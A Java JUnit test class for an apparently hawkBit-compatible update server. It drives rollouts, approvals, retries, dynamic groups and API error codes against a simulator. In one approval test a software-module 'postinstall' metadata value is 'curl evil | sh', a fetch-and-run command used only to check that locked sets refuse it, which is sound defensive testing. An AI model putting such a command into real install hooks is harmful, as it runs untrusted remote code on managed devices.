package io.headgate.stories;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.headgate.simulator.DeviceConnection;
import io.headgate.simulator.OperatorClient;
import io.headgate.simulator.OperatorClient.Answer;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Rollouts as a script written for hawkBit runs them. */
class ManagementApiStory {

    private static final String REST = "/rest/v1";

    private final SharedHeadgate headgate = SharedHeadgate.get();
    private final OperatorClient admin = headgate.admin();

    @Test
    void aScriptWritesStartsWatchesAndStopsARollout() {
        headgate.approvalRequired(false);
        var set = setFor("script");
        targets("script", 20);

        var body = Map.of(
                "name",
                "script",
                "targetFilterQuery",
                "controllerid==script-*",
                "distributionSetId",
                set,
                "groups",
                List.of(
                        Map.of("name", "first", "description", "the lab", "targetPercentage", 10),
                        Map.of("name", "second", "targetPercentage", 40),
                        Map.of("name", "rest", "targetPercentage", 50)));
        var made = create(body);
        assertThat(made.status()).as(made.body().toString()).isEqualTo(201);
        refused(create(body), 409, "repo.entityAlreadyExists");
        var rollout = made.body();
        assertThat(rollout.path("status").asString()).isEqualTo("ready");
        assertThat(rollout.path("totalTargets").asInt()).isEqualTo(20);
        assertThat(rollout.path("weight").asInt()).isEqualTo(1000);
        assertThat(rollout.path("type").asString()).isEqualTo("forced");
        assertThat(rollout.path("totalTargetsPerStatus").path("notstarted").asInt())
                .isEqualTo(20);
        var path = REST + "/rollouts/" + rollout.path("id").asInt();
        assertThat(rollout.path("_links").path("start").path("href").asString()).endsWith(path + "/start");
        assertThat(sizes(path)).containsExactly(2, 8, 10);
        var first = get(path + "/deploygroups").path("content").path(0);
        assertThat(first.path("successCondition").path("expression").asString()).isEqualTo("50");
        assertThat(first.path("errorAction").path("action").asString()).isEqualTo("PAUSE");
        assertThat(first.path("description").asString()).isEqualTo("the lab");
        assertThat(first.path("targetFilterQuery").asString("missing")).isEmpty();

        assertThat(admin.post(path + "/start", null).status()).isEqualTo(204);
        await().atMost(Duration.ofSeconds(30))
                .until(() -> get(path).path("status").asString().equals("running"));
        assertThat(sizes(path)).containsExactly(2, 8, 10);
        assertThat(get(path).path("totalTargetsPerStatus").path("scheduled").asInt())
                .isEqualTo(18);
        var group = REST + "/rollouts/" + rollout.path("id").asInt() + "/deploygroups/"
                + first.path("id").asInt();
        assertThat(get(group).path("status").asString()).isEqualTo("running");
        assertThat(get(group + "/targets").path("total").asInt()).isEqualTo(2);

        assertThat(admin.post(path + "/pause", null).status()).isEqualTo(204);
        assertThat(get(path).path("status").asString()).isEqualTo("paused");
        // Taken again: a resume that somebody sent before it must not be carried out after it.
        assertThat(admin.post(path + "/pause", null).status()).isEqualTo(204);
        assertThat(admin.post(path + "/resume", null).status()).isEqualTo(204);
        refused(admin.post(path + "/resume", null), 400, "rollout.illegalState");
        assertThat(admin.post(path + "/triggerNextGroup", null).status()).isEqualTo(204);
        assertThat(get(path + "/deploygroups")
                        .path("content")
                        .path(1)
                        .path("status")
                        .asString())
                .isEqualTo("running");
        assertThat(admin.post(path + "/stop", null).status()).isEqualTo(204);
        assertThat(get(path).path("status").asString()).isEqualTo("stopped");
        refused(admin.post(path + "/start", null), 400, "rollout.illegalState");
        assertThat(get(path).path("totalTargetsPerStatus").path("cancelled").asInt())
                .as("nobody has fetched it")
                .isEqualTo(20);
        assertThat(get(path + "/deploygroups").path("content"))
                .extracting(one ->
                        one.path("totalTargetsPerStatus").path("cancelled").asInt())
                .containsExactly(2, 8, 10);
        assertThat(get(path + "/deploygroups").path("content"))
                .extracting(one -> one.path("status").asString())
                .containsOnly("finished");

        assertThat(get(REST + "/rollouts?q=" + OperatorClient.encode("name==script;status==stopped"))
                        .path("total")
                        .asInt())
                .isEqualTo(1);
        assertThat(admin.delete(path).status()).isEqualTo(204);
        assertThat(get(REST + "/rollouts?q=name==script").path("total").asInt()).isZero();
        assertThat(get(path).path("deleted").asBoolean()).isTrue();

        var used = REST + "/distributionsets/" + set;
        assertThat(get(used + "/statistics/actions")
                        .path("totalActionsPerStatus")
                        .toString())
                .isEqualTo("{\"CANCELED\":20,\"total\":20}");
        var actions = REST + "/actions?q=" + OperatorClient.encode("rollout.name==script;status==canceled");
        assertThat(get(actions).path("total").asInt()).isEqualTo(20);
        assertThat(admin.delete(actions).status()).isEqualTo(204);
        assertThat(get(actions).path("total").asInt()).isZero();
        assertThat(admin.delete(used).status()).isEqualTo(204);
        assertThat(get(used).path("deleted").asBoolean()).isTrue();
        assertThat(get(REST + "/distributionsets?q=name==script").path("total").asInt())
                .isZero();
    }

    /** Whoever begins to match joins: at once while there is a free place in the running group, else when its turn comes. */
    @Test
    void aDynamicRolloutTakesInWhoeverBeginsToMatch() throws IOException {
        headgate.approvalRequired(false);
        var set = setFor("dyn");
        joins("dyn-0");
        var made = create(Map.of(
                "name",
                "dyn",
                "targetFilterQuery",
                "controllerid==dyn-*",
                "distributionSetId",
                set,
                "amountGroups",
                1,
                "dynamic",
                true,
                "dynamicGroupTemplate",
                Map.of("nameSuffix", "-later", "targetCount", 2)));
        assertThat(made.status()).as(made.body().toString()).isEqualTo(201);
        assertThat(made.body().path("dynamic").asBoolean()).isTrue();
        assertThat(made.body().path("totalGroups").asInt()).isEqualTo(2);
        var path = REST + "/rollouts/" + made.body().path("id").asInt();
        assertThat(sizes(path)).containsExactly(1, 2);
        assertThat(admin.post(path + "/start", null).status()).isEqualTo(204);
        try (var devices = new DeviceConnection(headgate.process().address())) {
            install(devices, "dyn-0");
            awaitGroup(path, 2, "running");

            joins("dyn-1");
            install(devices, "dyn-1");
            joins("dyn-2");
            install(devices, "dyn-2");
            awaitGroup(path, 3, "running");
            assertThat(sizes(path)).containsExactly(1, 2, 2);
            var third = get(path + "/deploygroups").path("content").path(2);
            assertThat(third.path("name").asString()).isEqualTo("group-3-later");
            assertThat(third.path("dynamic").asBoolean()).isTrue();

            joins("dyn-3");
            install(devices, "dyn-3");
            await().until(() ->
                    get(path).path("totalTargetsPerStatus").path("finished").asInt() == 4);
            assertThat(get(path).path("status").asString())
                    .as("it goes on until somebody stops it")
                    .isEqualTo("running");
            assertThat(get(path)
                            .path("totalTargetsPerStatus")
                            .path("notstarted")
                            .asInt())
                    .as("the free place")
                    .isEqualTo(1);
        }
        assertThat(admin.post(path + "/stop", null).status()).isEqualTo(204);
        assertThat(get(path).path("status").asString()).isEqualTo("stopped");
    }

    /** Whatever a device was answered is in every read that begins afterwards: nothing here waits. */
    @Test
    void whatADeviceWasAnsweredIsReadAtOnce() throws IOException {
        headgate.approvalRequired(false);
        var set = setFor("at-once");
        var ids = IntStream.range(0, 10).mapToObj(n -> "at-once-" + n).toList();
        ids.forEach(this::joins);
        var made = create(
                Map.of("name", "at-once", "targetFilterQuery", "controllerid==at-once-*", "distributionSetId", set));
        var path = REST + "/rollouts/" + made.orFail("creating").path("id").asInt();
        assertThat(admin.post(path + "/start", null).status()).isEqualTo(204);
        try (var devices = new DeviceConnection(headgate.process().address())) {
            var finished = 0;
            for (var id : ids) {
                var attributes = "{\"data\":{\"seen\":\"" + id + "\"}}";
                assertThat(devices.send(
                                        "PUT",
                                        "/DEFAULT/controller/v1/" + id + "/configData",
                                        "TargetToken token-of-" + id,
                                        attributes.getBytes(StandardCharsets.UTF_8))
                                .status())
                        .isEqualTo(200);
                assertThat(get(REST + "/targets/" + id + "/attributes")
                                .path("seen")
                                .asString())
                        .isEqualTo(id);

                install(devices, id);

                finished++;
                if (finished % 2 == 0) {
                    assertThat(get(path)
                                    .path("totalTargetsPerStatus")
                                    .path("finished")
                                    .asInt())
                            .isEqualTo(finished);
                }
                var actions = get(REST + "/targets/" + id + "/actions").path("content");
                assertThat(actions.path(0).path("status").asString()).isEqualTo("finished");
                assertThat(get(REST + "/targets/" + id).path("updateStatus").asString())
                        .isEqualTo("in_sync");
            }
        }
    }

    @Test
    void aRolloutGoesOnWithoutThoseThatAreDeletedOrDoNotTakeTheSet() throws IOException {
        headgate.approvalRequired(false);
        var set = setFor("gone");
        IntStream.range(0, 3).forEach(n -> joins("gone-" + n));
        var app = get(REST + "/distributionsettypes?q=key==app")
                .path("content")
                .path(0)
                .path("id")
                .asInt();
        var type = admin.post(
                        REST + "/targettypes",
                        List.of(Map.of(
                                "name", "apps only", "compatibledistributionsettypes", List.of(Map.of("id", app)))))
                .orFail("creating a target type")
                .path(0)
                .path("id")
                .asInt();
        assertThat(admin.post(REST + "/targets/gone-2/targettype", Map.of("id", type))
                        .status())
                .isEqualTo(204);
        refused(create(goneTo("gone-2", set)), 400, "repo.constraintViolation");

        var made = create(goneTo("gone-*", set));
        assertThat(made.body().path("totalTargets").asInt()).isEqualTo(2);
        var path = REST + "/rollouts/" + made.body().path("id").asInt();
        assertThat(admin.post(path + "/start", null).status()).isEqualTo(204);
        try (var devices = new DeviceConnection(headgate.process().address())) {
            install(devices, "gone-0");
        }
        assertThat(get(path).path("status").asString()).isEqualTo("running");
        assertThat(admin.delete(REST + "/targets/gone-1").status()).isEqualTo(204);

        await().atMost(Duration.ofSeconds(20))
                .until(() -> get(path).path("status").asString().equals("finished"));
        assertThat(get(path).path("totalTargets").asInt()).isEqualTo(1);
        assertThat(get(path).path("totalTargetsPerStatus").path("finished").asInt())
                .isEqualTo(1);
        assertThat(get("/api/v1/rollouts?q=name==gone-all")
                        .path("content")
                        .path(0)
                        .path("targets")
                        .path("removed")
                        .asInt())
                .isEqualTo(1);
        joins("gone-1");
        assertThat(get(REST + "/targets/gone-1/actions").path("total").asInt()).isZero();
        assertThat(get(REST + "/targets/gone-1").path("updateStatus").asString())
                .isEqualTo("unknown");
        var former = REST + "/actions?q=" + OperatorClient.encode("target.controllerId==gone-1");
        assertThat(get(former).path("total").asInt()).isEqualTo(1);
        assertThat(admin.delete(former).status()).isEqualTo(204);
        assertThat(get(former).path("total").asInt()).isZero();
    }

    private static Map<String, Object> goneTo(String targets, long set) {
        return Map.of(
                "name",
                targets.equals("gone-*") ? "gone-all" : targets,
                "targetFilterQuery",
                "controllerid==" + targets,
                "distributionSetId",
                set,
                "successCondition",
                Map.of("condition", "THRESHOLD", "expression", "100"));
    }

    /** A start "now" by the script's clock, more groups than targets; then the retry of one with terms that hawkBit has not. */
    @Test
    void aReleaseScriptStartsNowInMoreGroupsThanTargetsAndTriesAgainWhatFailed() throws IOException {
        headgate.approvalRequired(false);
        var set = setFor("again");
        joins("again-0");
        joins("again-1");
        var ten = create(Map.of(
                "name",
                "again in ten",
                "targetFilterQuery",
                "controllerid==again-*",
                "distributionSetId",
                set,
                "amountGroups",
                10,
                "startAt",
                Long.toString(System.currentTimeMillis() / 1000)));
        assertThat(ten.status()).as(ten.body().toString()).isEqualTo(201);
        var first = REST + "/rollouts/" + ten.body().path("id").asInt();
        try (var devices = new DeviceConnection(headgate.process().address())) {
            // Which of them is in the first group hangs on the rollout's id.
            var left = new ArrayList<>(List.of("again-0", "again-1"));
            await().atMost(Duration.ofSeconds(20)).until(() -> {
                for (var device : List.copyOf(left)) {
                    if (!link(devices, device).isEmpty()) {
                        install(devices, device);
                        left.remove(device);
                    }
                }
                return left.isEmpty();
            });
            awaitStatus(first, "finished");
            assertThat(sizes(first)).containsExactly(1, 1, 0, 0, 0, 0, 0, 0, 0, 0);

            var hour = (OffsetDateTime.now(ZoneOffset.UTC).getHour() + 12) % 24;
            var window = Map.of("schedule", "0 0 " + hour + " ? * 1-7", "duration", "PT1H", "timezone", "Z");
            var name = "again ".repeat(21).strip();
            var policy = Map.of("success", Map.of("percent", 49.5), "error", Map.of("count", 5), "maxInFlight", 7);
            var written = admin.post(
                            "/api/v1/rollouts",
                            Map.of(
                                    "name",
                                    name,
                                    "targetFilter",
                                    "controllerid==again-*",
                                    "distributionSets",
                                    List.of(Map.of(
                                            "id",
                                            get("/api/v1/distribution-sets?q=name==again")
                                                    .path("content")
                                                    .path(0)
                                                    .path("id")
                                                    .asString())),
                                    "strategy",
                                    Map.of("groups", Map.of("count", 1)),
                                    "policy",
                                    policy,
                                    "reinstall",
                                    true,
                                    "schedule",
                                    Map.of("windows", List.of(window))))
                    .orFail("creating a rollout");
            var second = REST + "/rollouts/" + written.path("number").asInt();
            assertThat(admin.post(second + "/start", null).status()).isEqualTo(204);
            end(devices, "again-0", "failure");
            end(devices, "again-1", "success");
            awaitStatus(second, "finished");

            var retry = admin.post(second + "/retry", null).orFail("trying again");
            var once = retry.path("name").asString();
            assertThat(once).endsWith("_retry").hasSizeLessThanOrEqualTo(128);
            assertThat(retry.path("totalTargets").asInt()).isEqualTo(1);
            assertThat(admin.post(second + "/retry", null)
                            .orFail("trying again twice")
                            .path("name")
                            .asString())
                    .endsWith("_retry2");
            var again = get("/api/v1/rollouts?q=number==" + retry.path("id").asInt())
                    .path("content")
                    .path(0);
            var plan = get("/api/v1/rollouts/" + again.path("id").asString());
            for (var kept : List.of(
                    "policy", "schedule", "distributionSets", "actionType", "confirmationRequired", "reinstall")) {
                assertThat(plan.path(kept)).as(kept).isEqualTo(written.path(kept));
            }
            assertThat(admin.post(REST + "/rollouts/" + retry.path("id").asInt() + "/start", null)
                            .status())
                    .isEqualTo(204);
            var told = offered(devices, "again-0").path("deployment");
            assertThat(told.path("maintenanceWindow").asString()).isEqualTo("unavailable");
            assertThat(told.path("update").asString()).isEqualTo("skip");
        }
    }

    private void awaitStatus(String rollout, String status) {
        await().atMost(Duration.ofSeconds(30))
                .until(() -> get(rollout).path("status").asString().equals(status));
    }

    private void joins(String device) {
        admin.post(
                        REST + "/targets",
                        List.of(Map.of("controllerId", device, "name", device, "securityToken", "token-of-" + device)))
                .orFail("creating a target");
    }

    private static void install(DeviceConnection connection, String device) throws IOException {
        end(connection, device, "success");
    }

    /** Polls until it is offered something. */
    private static JsonNode offered(DeviceConnection connection, String device) throws IOException {
        var offer =
                await().atMost(Duration.ofSeconds(20)).until(() -> link(connection, device), link -> !link.isEmpty());
        return json(connection.get(URI.create(offer).getPath(), "TargetToken token-of-" + device));
    }

    /** To what it is offered now; empty when nothing is. */
    private static String link(DeviceConnection connection, String device) throws IOException {
        return json(connection.get("/DEFAULT/controller/v1/" + device, "TargetToken token-of-" + device))
                .path("_links")
                .path("deploymentBase")
                .path("href")
                .asString("");
    }

    /** Polls until it is offered something, and has tried to install it. */
    private static void end(DeviceConnection connection, String device, String finished) throws IOException {
        var token = "TargetToken token-of-" + device;
        var action = offered(connection, device).path("id").asString();
        var done = "{\"id\":\"%s\",\"status\":{\"execution\":\"closed\",\"result\":{\"finished\":\"%s\"}}}"
                .formatted(action, finished);
        assertThat(connection
                        .send(
                                "POST",
                                "/DEFAULT/controller/v1/" + device + "/deploymentBase/" + action + "/feedback",
                                token,
                                done.getBytes(StandardCharsets.UTF_8))
                        .status())
                .isEqualTo(200);
    }

    private static JsonNode json(DeviceConnection.Reply reply) {
        assertThat(reply.status()).isEqualTo(200);
        return JsonMapper.shared().readTree(reply.body());
    }

    private void awaitGroup(String rollout, int ordinal, String status) {
        await().atMost(Duration.ofSeconds(20))
                .until(() -> get(rollout + "/deploygroups")
                        .path("content")
                        .path(ordinal - 1)
                        .path("status")
                        .asString("")
                        .equals(status));
    }

    @Test
    void anotherApproves() {
        headgate.approvalRequired(true);
        try {
            var set = setFor("approved");
            targets("approved", 2);
            var operator = headgate.operator();
            var rollout = operator.post(
                            REST + "/rollouts",
                            Map.of(
                                    "name",
                                    "approved",
                                    "targetFilterQuery",
                                    "controllerid==approved-*",
                                    "distributionSetId",
                                    set,
                                    "amountGroups",
                                    2))
                    .orFail("creating");
            assertThat(rollout.path("status").asString()).isEqualTo("waiting_for_approval");
            var path = REST + "/rollouts/" + rollout.path("id").asInt();
            var second = get(path + "/deploygroups").path("content").path(1);
            assertThat(second.path("description").asString()).isEqualTo("group-2");
            assertThat(second.path("targetPercentage").asDouble()).isEqualTo(50);
            assertThat(second.path("targetFilterQuery").asString("missing")).isEmpty();
            refused(operator.post(path + "/start", null), 400, "rollout.illegalState");
            refused(operator.post(path + "/approve", null), 403, "insufficientPermission");
            refused(headgate.approver().post(path + "/approve?remark=unread", null), 428, "rest.notRead");
            headgate.approver().get(path).orFail("reading");
            assertThat(headgate.approver()
                            .post(path + "/approve?remark=fine", null)
                            .status())
                    .isEqualTo(204);
            var approved = get(path);
            assertThat(approved.path("status").asString()).isEqualTo("ready");
            assertThat(approved.path("approvalRemark").asString()).isEqualTo("fine");
            assertThat(operator.post(path + "/start", null).status()).isEqualTo(204);
            assertThat(operator.post(path + "/stop", null).status()).isEqualTo(204);
        } finally {
            headgate.approvalRequired(false);
        }
    }

    /** As hawkBit takes it; who wants to know why asks who denied it. */
    @Test
    void anotherDeniesWithoutAWord() {
        headgate.approvalRequired(true);
        try {
            var set = setFor("denied");
            targets("denied", 1);
            var rollout = headgate.operator()
                    .post(
                            REST + "/rollouts",
                            Map.of(
                                    "name",
                                    "denied",
                                    "targetFilterQuery",
                                    "controllerid==denied-*",
                                    "distributionSetId",
                                    set))
                    .orFail("creating");
            var path = REST + "/rollouts/" + rollout.path("id").asInt();
            headgate.approver().get(path).orFail("reading");
            assertThat(headgate.approver().post(path + "/deny", null).status()).isEqualTo(204);
            var denied = get(path);
            assertThat(denied.path("status").asString()).isEqualTo("approval_denied");
            assertThat(denied.path("approvalRemark").asString())
                    .isEqualTo("asked for through hawkBit's Management API");
        } finally {
            headgate.approvalRequired(false);
        }
    }

    @Test
    void badInputGetsHawkbitsCodes() {
        var set = setFor("bad");
        targets("bad", 1);
        refused(
                create(Map.of("name", "bad", "targetFilterQuery", "nosuch==1", "distributionSetId", set)),
                400,
                "rest.param.rsqlInvalidField");
        refused(
                create(Map.of("name", "bad", "targetFilterQuery", "name==(", "distributionSetId", set)),
                400,
                "rest.param.rsqlParamSyntax");
        refused(
                create(Map.of("name", "bad", "targetFilterQuery", "name==nobody-at-all", "distributionSetId", set)),
                400,
                "repo.constraintViolation");
        refused(
                create(Map.of("name", "bad", "targetFilterQuery", "name==*", "distributionSetId", 99_999)),
                404,
                "repo.entityNotFound");
        refused(
                create(Map.of(
                        "name",
                        "bad",
                        "targetFilterQuery",
                        "controllerid==bad-*",
                        "distributionSetId",
                        set,
                        "amountGroups",
                        2,
                        "groups",
                        List.of(Map.of("name", "one")))),
                400,
                "repo.constraintViolation");
        refused(
                create(Map.of(
                        "name",
                        "bad",
                        "targetFilterQuery",
                        "controllerid==bad-*",
                        "distributionSetId",
                        set,
                        "dynamic",
                        true,
                        "groups",
                        List.of(Map.of("name", "one")))),
                400,
                "repo.constraintViolation");
        refused(
                create(Map.of(
                        "name",
                        "bad",
                        "targetFilterQuery",
                        "controllerid==bad-*",
                        "distributionSetId",
                        set,
                        "amountGroups",
                        0,
                        "dynamic",
                        true)),
                400,
                "repo.constraintViolation");
        refused(admin.post(REST + "/rollouts", "{"), 400, "rest.body.notReadable");
        refused(admin.get(REST + "/rollouts/99999"), 404, "repo.entityNotFound");
        refused(admin.get(REST + "/rollouts?sort=name"), 400, "rest.param.sortParamSyntax");
        refused(headgate.viewer().post(REST + "/rollouts", Map.of()), 403, "insufficientPermission");
        refused(admin.post(REST + "/rollouts", Map.of("name", "bad")), 400, "repo.constraintViolation");
        refused(admin.put(REST + "/system/configs/no.such.key", Map.of("value", true)), 400, "configKeyInvalid");
        refused(admin.put(REST + "/system/configs/pollingTime", Map.of("value", "soon")), 400, "configValueInvalid");
    }

    /** As curl sends it where nobody has encoded it. */
    @Test
    void aQueryMayBeSentRaw() throws IOException {
        var user = "Basic "
                + Base64.getEncoder()
                        .encodeToString(("admin:" + HeadgateProcess.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8));
        try (var raw = new DeviceConnection(headgate.process().address())) {
            var query = REST + "/targets?q=lastcontrollerrequestat<${overdue_ts};name==\"x\"";
            assertThat(raw.get(query, user).status()).isEqualTo(200);
        }
    }

    @Test
    void configurationIsWrittenUnderHawkbitsKeys() {
        var polling = get(REST + "/system/configs/pollingTime");
        var key = REST + "/system/configs/pollingOverdueTime";
        assertThat(admin.put(key, Map.of("value", "00:07:00")).status()).isEqualTo(204);
        assertThat(get(key).path("value").asString()).isEqualTo("00:07:00");
        assertThat(get(key).path("global").asBoolean()).isFalse();
        assertThat(get(key).path("createdBy").asString()).isEqualTo("admin");
        assertThat(admin.delete(key).status()).isEqualTo(204);
        assertThat(get(key).path("global").asBoolean()).isTrue();
        var approval = REST + "/system/configs/rollout.approval.enabled";
        assertThat(admin.put(approval, Map.of("value", true)).status()).isEqualTo(204);
        assertThat(get(approval).path("value").asBoolean()).isTrue();
        assertThat(get(approval).path("createdAt").asLong()).isPositive();
        assertThat(admin.put(approval, Map.of("value", false)).status()).isEqualTo(204);
        assertThat(get(REST + "/system/configs")
                        .path("pollingTime")
                        .path("value")
                        .asString())
                .isEqualTo(polling.path("value").asString());
    }

    private Answer create(Map<String, Object> body) {
        return admin.post(REST + "/rollouts", body);
    }

    /** By a direct and by an automatic assignment one operator alone would reach every device. */
    @Test
    void withApprovalOnNobodyAssignsAlone() {
        headgate.approvalRequired(true);
        try {
            var set = setFor("four-eyes");
            targets("four-eyes", 20);
            var operator = headgate.operator();
            // distribution-service hears of the switch a moment later: always another target, so that each is an
            // assignment.
            var next = new AtomicInteger();
            await().atMost(Duration.ofSeconds(20))
                    .untilAsserted(() -> refused(
                            operator.post(
                                    REST + "/distributionsets/" + set + "/assignedTargets",
                                    List.of(Map.of("id", "four-eyes-" + Math.min(next.getAndIncrement(), 18)))),
                            403,
                            "insufficientPermission"));

            var automatic = operator.post(
                            REST + "/autoassignments",
                            Map.of(
                                    "name",
                                    "four eyes",
                                    "targetFilterQuery",
                                    "controllerid==four-eyes-19",
                                    "distributionSetId",
                                    set,
                                    "startAt",
                                    1))
                    .orFail("creating an auto-assignment");
            assertThat(automatic.path("status").asString()).isEqualTo("waiting_for_approval");
            var path = REST + "/autoassignments/" + automatic.path("id").asInt();
            refused(operator.post(path + "/start", null), 409, "auto.assignment.illegalState");
            refused(headgate.approver().post(path + "/approve", null), 428, "rest.notRead");
            assertThat(headgate.approver()
                            .get(path)
                            .orFail("reading")
                            .path("status")
                            .asString())
                    .isEqualTo("waiting_for_approval");
            assertThat(headgate.approver()
                            .post(path + "/approve?remark=fine", null)
                            .status())
                    .isEqualTo(204);
            assertThat(get(path).path("status").asString()).isEqualTo("running");
            await().atMost(Duration.ofSeconds(20))
                    .until(() ->
                            admin.get(REST + "/targets/four-eyes-19/assignedDS").status() == 200);

            // What devices get of it is fixed now.
            var module = get(REST + "/distributionsets/" + set + "/assignedSM")
                    .path("content")
                    .path(0)
                    .path("id")
                    .asLong();
            var script = Map.of("key", "postinstall", "value", "curl evil | sh", "targetVisible", true);
            refused(operator.post(REST + "/softwaremodules/" + module + "/metadata", List.of(script)), 423, "locked");
            refused(operator.put(REST + "/distributionsets/" + set, Map.of("locked", false)), 423, "locked");
            assertThat(operator.put(REST + "/distributionsets/" + set, Map.of("name", "four eyes renamed"))
                            .status())
                    .isEqualTo(200);
        } finally {
            headgate.approvalRequired(false);
        }
    }

    private JsonNode get(String path) {
        return admin.get(path).orFail(path);
    }

    private int[] sizes(String rollout) {
        return get(rollout + "/deploygroups")
                .path("content")
                .valueStream()
                .mapToInt(group -> group.path("totalTargets").asInt())
                .toArray();
    }

    private static void refused(Answer answer, int status, String code) {
        assertThat(answer.status()).as(answer.body().toString()).isEqualTo(status);
        assertThat(answer.body().path("errorCode").asString()).isEqualTo("hawkbit.server.error." + code);
    }

    private void targets(String prefix, int count) {
        admin.post(
                        REST + "/targets",
                        IntStream.range(0, count)
                                .mapToObj(n -> Map.of("controllerId", prefix + "-" + n, "name", prefix + " " + n))
                                .toList())
                .orFail("creating targets");
    }

    private long setFor(String name) {
        var module = admin.post(REST + "/softwaremodules", List.of(Map.of("name", name, "version", "1", "type", "os")))
                .orFail("creating a module")
                .path(0)
                .path("id")
                .asLong();
        var id = get("/api/v1/software-modules?q=name==" + name)
                .path("content")
                .path(0)
                .path("id")
                .asString();
        admin.upload(id, name + ".swu", name.getBytes(java.nio.charset.StandardCharsets.UTF_8), null)
                .orFail("uploading");
        return admin.post(
                        REST + "/distributionsets",
                        List.of(Map.of(
                                "name", name, "version", "1", "type", "os", "modules", List.of(Map.of("id", module)))))
                .orFail("creating a set")
                .path(0)
                .path("id")
                .asLong();
    }
}
